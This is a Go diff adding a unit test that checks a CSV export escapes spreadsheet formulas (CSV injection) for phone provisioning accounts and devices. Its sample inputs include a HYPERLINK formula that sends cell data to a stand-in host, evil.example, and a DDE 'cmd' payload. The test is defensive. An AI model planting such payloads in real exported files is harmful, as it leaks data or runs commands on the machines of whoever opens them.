@@ -2,6 +2,7 @@ package csvio
 
 import (
 	"bytes"
+	"encoding/csv"
 	"errors"
 	"fmt"
 	"strings"
@@ -148,6 +149,46 @@ func BenchmarkRead10000(b *testing.B) {
 	for b.Loop() {
 		if _, err := Read(strings.NewReader(src.String())); err != nil {
 			b.Fatal(err)
+		}
+	}
+}
+
+// TestWriteGuardsFormulas: a label or display name a spreadsheet would run
+// as a formula (CSV injection) is written with a leading "'", and reads
+// back as it was.
+func TestWriteGuardsFormulas(t *testing.T) {
+	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "'=quoted"}
+	var accounts []autoprov.Account
+	var devices []autoprov.Device
+	for i, e := range evil {
+		ext := fmt.Sprintf("+49%d", 200+i)
+		accounts = append(accounts, autoprov.Account{Extension: ext, DisplayName: e, AuthUser: ext})
+		devices = append(devices, autoprov.Device{MAC: fmt.Sprintf("805ec0aabb%02x", i), Vendor: "yealink", Model: "T54W",
+			Label: e, KeyProfile: e, State: autoprov.StateAssigned, Accounts: []string{ext}})
+	}
+	var b bytes.Buffer
+	if err := Write(&b, accounts, devices); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, rec := range recs[1:] {
+		for i, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+				t.Errorf("column %s: cell %q would run as a formula", Columns[i], cell)
+			}
+		}
+	}
+	im, err := Read(strings.NewReader(b.String()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, e := range evil {
+		d, a := im.Input.Devices[i], im.Input.Accounts[i]
+		if *d.Label != e || *d.KeyProfile != e || *a.DisplayName != e || *a.Extension != fmt.Sprintf("+49%d", 200+i) {
+			t.Errorf("read back %q: label %q, key profile %q, display name %q, extension %q", e, *d.Label, *d.KeyProfile, *a.DisplayName, *a.Extension)
 		}
 	}
 }
